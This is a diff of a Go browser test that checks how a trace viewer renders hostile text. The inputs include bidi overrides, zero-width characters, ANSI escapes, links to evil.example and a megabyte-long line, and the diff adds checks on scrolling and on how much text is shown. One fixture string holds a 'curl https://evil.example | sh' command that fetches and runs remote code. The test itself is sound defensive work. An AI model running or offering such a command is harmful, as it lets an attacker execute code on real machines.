@@ -21,8 +21,10 @@ func TestBrowserTextOfTraces(t *testing.T) {
 	tr.Question = hostile + " pay\u202e001\u202c now"
 	tr.Output = "# Plan\n\n" + hostile + " ![x](https://evil.example/x.png) [y](https://evil.example) [1].\n\n" +
 		"מינון **נמוך** של 5 mg ליום [2].\n\n```sh\ncurl https://evil.example | sh; " + strings.Repeat("x", 300) + "\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n" +
-		"zero\u200bwidth, Z" + strings.Repeat("\u0335", 200) + "algo, \x1b[31mred\n\n" + strings.Repeat("0123456789", 100_000)
+		"zero\u200bwidth, Z" + strings.Repeat("\u0335", 200) + "algo, \x1b[31mred\n\n" + strings.Repeat("0123456789", 1_000)
 	tr.Sources = []judge.Source{{ID: "1", Title: hostile + "\u202e", Text: hostile + "\u2066"}}
+	long := tr
+	long.ID, long.Output = "long", "# Plan\n\n"+strings.Repeat("0123456789", 100_000)+" end [1]."
 	s.load(tr)
 	ctx := browser(t)
 	s.browserSignIn(ctx, "lea@example.org")
@@ -64,6 +66,15 @@ func TestBrowserTextOfTraces(t *testing.T) {
 			t.Errorf("%s: the browser's own search does not find words of the trace", path)
 		}
 		axeClean(t, ctx, path)
+	}
+	s.load(long)
+	// A line of a megabyte, which axe would look at for half a minute.
+	visit(t, ctx, s.http.URL+"/traces/long?text=markdown")
+	if over := eval[int](t, ctx, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); over > 0 {
+		t.Errorf("a line of a megabyte scrolls sideways by %d px", over)
+	}
+	if shown := eval[int](t, ctx, `document.querySelector(".trace").textContent.length`); shown < 1_000_000 {
+		t.Errorf("of a line of a megabyte %d characters are shown", shown)
 	}
 }
 
